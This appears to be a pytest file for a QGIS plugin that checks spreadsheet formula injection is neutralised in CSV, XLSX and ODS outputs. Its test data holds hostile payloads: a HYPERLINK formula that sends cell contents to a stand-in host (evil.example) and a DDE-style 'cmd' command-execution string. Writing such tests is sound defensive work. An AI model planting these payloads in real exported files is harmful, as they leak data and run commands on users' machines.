"""Formula injection in table *sinks* (OUTPUT written by QGIS to .csv/.xlsx/.ods, not only the *_FILE copies):
a zone named ``=HYPERLINK(...)`` reaches the spreadsheet as text with a leading quote; numbers stay numbers."""
import csv
import zipfile

import numpy as np
import processing
import pytest
from helpers import srs_wkt, write_raster
from osgeo import gdal, ogr, osr

ALG = "t2monitor:classareas"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
SAFE = ["Bosque Alto", "-5"]  # text that is a number is left as it is


def _zones(path, names):
    srs = osr.SpatialReference()
    srs.ImportFromWkt(srs_wkt(32718))
    ds = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    lyr = ds.CreateLayer("zones", srs, ogr.wkbPolygon)
    lyr.CreateField(ogr.FieldDefn("name", ogr.OFTString))
    for i, name in enumerate(names):  # one 10-pixel-wide strip per zone of the 60 x 60 raster
        x0, x1 = 300000.0 + 300.0 * i, 300000.0 + 300.0 * (i + 1)
        f = ogr.Feature(lyr.GetLayerDefn())
        f.SetField("name", name)
        f.SetGeometry(ogr.CreateGeometryFromWkt(
            f"POLYGON(({x0} 9000000,{x1} 9000000,{x1} 8998200,{x0} 8998200,{x0} 9000000))"))
        lyr.CreateFeature(f)
    ds = None
    return f"{path}|layername=zones"


@pytest.fixture
def inputs(tmp_path):
    names = HOSTILE + SAFE
    lc = np.ones((60, 10 * len(names)), "uint8")
    lc[:, ::2] = 2
    raster = write_raster(tmp_path / "lc.tif", lc, nodata=0)
    return {"INPUT": raster, "BAND": 1, "ZONES": _zones(tmp_path / "zones.gpkg", names), "ZONE_FIELD": "name"}


def _expected_zones():
    return {"'" + n for n in HOSTILE} | set(SAFE)


def test_csv_sink_is_neutralised(t2_provider, inputs, tmp_path):
    out = tmp_path / "areas.csv"
    processing.run(ALG, {**inputs, "OUTPUT": str(out)})
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    zones = {r["zone"] for r in rows} - {"(all)"}
    assert zones == _expected_zones()
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
    # numbers are untouched: each 10 x 60 strip of 30 m pixels is 300 class-1 + 300 class-2 pixels = 27 ha
    # each on the plane (true ellipsoidal area in UTM 18S, 9° S: 0.019 % less)
    per_zone = [r for r in rows if r["zone"] == "'" + HOSTILE[0] and r["class"]]
    assert sorted(float(r["area_ha"]) for r in per_zone) == pytest.approx([27.0, 27.0], rel=1e-3)
    assert sorted(float(r["share"]) for r in per_zone) == pytest.approx([0.5, 0.5])


@pytest.mark.parametrize("ext", ["xlsx", "ods"])
def test_spreadsheet_sink_is_neutralised(t2_provider, inputs, tmp_path, ext):
    out = tmp_path / f"areas.{ext}"
    processing.run(ALG, {**inputs, "OUTPUT": str(out)})
    key = "OGR_XLSX_HEADERS" if ext == "xlsx" else "OGR_ODS_HEADERS"
    gdal.SetConfigOption(key, "FORCE")
    try:
        ds = gdal.OpenEx(str(out), gdal.OF_VECTOR)
        layer = ds.GetLayer(0)
        defn = layer.GetLayerDefn()
        names = [defn.GetFieldDefn(i).GetName() for i in range(defn.GetFieldCount())]
        rows = [dict(zip(names, (f.GetField(i) for i in range(len(names))))) for f in layer]
        area_type = defn.GetFieldDefn(names.index("area_ha")).GetType()
        ds = None
    finally:
        gdal.SetConfigOption(key, None)
    assert {r["zone"] for r in rows} - {"(all)"} == _expected_zones()
    assert area_type == ogr.OFTReal  # a number cell, not text
    per_zone = [r for r in rows if r["zone"] == "'" + HOSTILE[0] and r["class"] is not None]
    assert sorted(r["area_ha"] for r in per_zone) == pytest.approx([27.0, 27.0], rel=1e-3)
    if ext == "xlsx":
        with zipfile.ZipFile(out) as archive:
            xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/"))
        assert "<f>" not in xml and ">=HYPERLINK" not in xml


def test_other_sink_formats_keep_names_exactly(t2_provider, inputs, tmp_path):
    """A GeoPackage is not a spreadsheet: the zone names are written exactly as given."""
    out = tmp_path / "areas.gpkg"
    res = processing.run(ALG, {**inputs, "OUTPUT": str(out)})
    ds = ogr.Open(str(out))
    zones = {f.GetField("zone") for f in ds.GetLayer(0)} - {"(all)"}
    ds = None
    assert zones == set(HOSTILE + SAFE)
    assert res["OUTPUT"].startswith(str(out))


def test_neutralising_sink_add_features_and_numbers(qgis_app):
    from qgis.core import QgsFeature, QgsVectorLayer

    from t2_monitor_plugin.algorithms.outputs import NeutralisingSink

    layer = QgsVectorLayer("None?field=name:string&field=n:integer&field=x:double", "t", "memory")
    sink = NeutralisingSink(layer.dataProvider())
    feats = []
    for name, n, x in (("=1+1", -3, -2.5), ("-7", 4, 0.0), ("ok", -1, -1e-3)):
        f = QgsFeature(layer.fields())
        f.setAttributes([name, n, x])
        feats.append(f)
    assert sink.addFeature(feats[0])
    assert sink.addFeatures(feats[1:])
    assert [f.attributes() for f in layer.getFeatures()] == [["'=1+1", -3, -2.5], ["-7", 4, 0.0], ["ok", -1, -1e-3]]
    assert feats[0]["name"] == "=1+1"  # the caller's feature is not changed
